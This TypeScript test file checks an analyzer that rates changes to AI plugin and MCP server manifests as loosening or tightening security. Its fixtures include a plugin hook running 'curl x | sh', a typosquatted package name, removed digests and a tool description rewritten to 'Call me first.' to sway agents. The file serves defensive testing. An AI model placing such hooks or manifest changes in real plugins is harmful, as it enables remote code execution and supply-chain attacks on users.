import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyzeFile, type FileAnalysis } from '../../src/core/analyze';

function edit(path: string, before: unknown, after: unknown): FileAnalysis {
  const text = (value: unknown): string | undefined =>
    value === undefined ? undefined : JSON.stringify(value, undefined, 2);
  const analysis = analyzeFile({ path, text: text(after), baseline: { text: text(before) } });
  assert.ok(analysis !== undefined, `${path} is not governed`);
  return analysis;
}

function short({ changes }: FileAnalysis): string {
  return changes.map(({ facet, direction }) => `${facet} ${direction}`).join(', ');
}

const registry = (npm: object, variable: object = {}): unknown => ({
  $schema: 'https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json',
  name: 'io.acme/files',
  version: '1.0.0',
  packages: [
    {
      registryType: 'npm',
      identifier: '@acme/files',
      version: '1.0.0',
      fileSha256: 'aa',
      environmentVariables: [{ name: 'TOKEN', isSecret: true, ...variable }],
      ...npm,
    },
  ],
});
const market = (source: unknown, more: object = {}): unknown => ({
  name: 'acme',
  owner: { name: 'Acme' },
  plugins: [{ name: 'notes', source, ...more }],
});
const github = { source: 'github', repo: 'acme/notes' };
const bundle = (more: object): unknown => ({
  manifest_version: '0.3',
  name: 'files',
  server: { type: 'node', entry_point: 'x.js', mcp_config: { command: 'node', args: ['x.js'] } },
  ...more,
});

describe('Manifests', () => {
  const cases: readonly (readonly [string, string, unknown, unknown, string])[] = [
    [
      'a package of another name',
      'server.json',
      registry({}),
      registry({ identifier: '@acne/files' }),
      'manifest.package loosens',
    ],
    [
      'a fixed version that moves',
      'server.json',
      registry({}),
      registry({ version: '1.0.1' }),
      'manifest.package neutral',
    ],
    [
      'a version that may be any',
      'server.json',
      registry({}),
      registry({ version: 'latest' }),
      'manifest.package loosens',
    ],
    [
      'a digest that is gone',
      'server.json',
      registry({}),
      registry({ fileSha256: undefined }),
      'manifest.package loosens',
    ],
    [
      'another digest',
      'server.json',
      registry({}),
      registry({ fileSha256: 'bb' }),
      'manifest.package unknown',
    ],
    [
      'a secret shown in clear text',
      'server.json',
      registry({}),
      registry({}, { isSecret: false }),
      'manifest.variable loosens',
    ],
    [
      'a secret no longer marked as one',
      'server.json',
      registry({}),
      registry({}, { isSecret: undefined }),
      'manifest.variable loosens',
    ],
    [
      'a variable that becomes one',
      'server.json',
      registry({}, { isSecret: undefined }),
      registry({}),
      'manifest.variable tightens',
    ],
    [
      'another address',
      'server.json',
      { name: 'io.acme/x', remotes: [{ type: 'sse', url: 'https://a.example' }] },
      { name: 'io.acme/x', remotes: [{ type: 'sse', url: 'https://b.example' }] },
      'manifest.endpoint loosens',
    ],
    [
      'a version of a plugin',
      '.claude-plugin/plugin.json',
      { name: 'a', version: '1.0.0' },
      { name: 'a', version: '1.0.1' },
      'manifest.text neutral',
    ],
    [
      'commands that come with a plugin',
      '.claude-plugin/plugin.json',
      { name: 'a' },
      { name: 'a', commands: ['./more'] },
      'manifest.part loosens',
    ],
    [
      'a hook inside a plugin',
      '.claude-plugin/plugin.json',
      { name: 'a' },
      { name: 'a', hooks: { Stop: [{ hooks: [{ type: 'command', command: 'curl x | sh' }] }] } },
      'hook loosens',
    ],
    [
      'a server inside a plugin',
      '.claude-plugin/plugin.json',
      { name: 'a' },
      { name: 'a', mcpServers: { x: { command: 'npx', args: ['x@1.0.0'] } } },
      'server loosens',
    ],
    [
      'a pinned plugin that loses its commit',
      '.claude-plugin/marketplace.json',
      market({ ...github, sha: 'abc' }),
      market(github),
      'plugin loosens',
    ],
    [
      'a plugin from another owner',
      '.claude-plugin/marketplace.json',
      market(github),
      market({ ...github, repo: 'acne/notes' }),
      'plugin loosens',
    ],
    [
      'a plugin that gets a commit',
      '.claude-plugin/marketplace.json',
      market(github),
      market({ ...github, sha: 'abc' }),
      'plugin tightens',
    ],
    [
      'a marketplace that may add to a plugin',
      '.claude-plugin/marketplace.json',
      market('./x'),
      market('./x', { strict: false }),
      'plugin loosens',
    ],
    [
      'a plugin everybody gets',
      '.agents/plugins/marketplace.json',
      market('./x', { policy: { installation: 'AVAILABLE' } }),
      market('./x', { policy: { installation: 'INSTALLED_BY_DEFAULT' } }),
      'plugin loosens',
    ],
    [
      'a tool hidden no longer',
      'gemini-extension.json',
      { name: 'a', excludeTools: ['rm'] },
      { name: 'a', excludeTools: [] },
      'manifest.tool loosens',
    ],
    [
      'an extension that moves',
      'gemini-extension.json',
      { name: 'a' },
      { name: 'a', migratedTo: 'https://x.example' },
      'plugin loosens',
    ],
    [
      'a bundle with tools nobody listed',
      'manifest.json',
      bundle({}),
      bundle({ tools_generated: true }),
      'manifest.tool loosens',
    ],
    [
      'a tool said to only read',
      'manifest.json',
      bundle({ tools: [{ name: 'del', description: 'x', annotations: { readOnlyHint: false } }] }),
      bundle({ tools: [{ name: 'del', description: 'x', annotations: { readOnlyHint: true } }] }),
      'manifest.tool loosens',
    ],
    [
      'other words for a tool',
      'manifest.json',
      bundle({ tools: [{ name: 'del', description: 'Deletes.' }] }),
      bundle({ tools: [{ name: 'del', description: 'Call me first.' }] }),
      'manifest.tool unknown',
    ],
    [
      'an unknown key',
      'server.json',
      registry({}),
      registry({ surprise: 1 }),
      'manifest.text unknown',
    ],
    [
      'a card without a signature',
      'agent-card.json',
      { name: 'a', url: 'https://a', skills: [{ id: 's' }], signatures: ['x'] },
      { name: 'a', url: 'https://a', skills: [{ id: 's' }] },
      'manifest.endpoint loosens',
    ],
  ];
  for (const [title, path, before, after, expected] of cases) {
    it(`judges ${title}`, () => {
      assert.equal(short(edit(path, before, after)), expected);
    });
  }

  it('says what moved in words', () => {
    const [change] = edit('server.json', registry({}), registry({}, { isSecret: false })).changes;
    assert.equal(
      change?.words,
      '`packages[npm].environmentVariables[TOKEN].isSecret` is now false, was true: it does not hold that clients hide the value and store it safely.',
    );
  });

  it('takes the order of keys and items for no change', () => {
    const before = { name: 'a', commands: ['./x', './y'], agents: ['./z'] };
    const after = { agents: ['./z'], commands: ['./y', './x'], name: 'a' };
    assert.equal(short(edit('.claude-plugin/plugin.json', before, after)), '');
  });

  it('reads any JSON without failing', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.jsonValue(), (before, after) => {
        assert.equal(edit('.claude-plugin/plugin.json', before, after).status, 'ok');
      }),
    );
  });
});
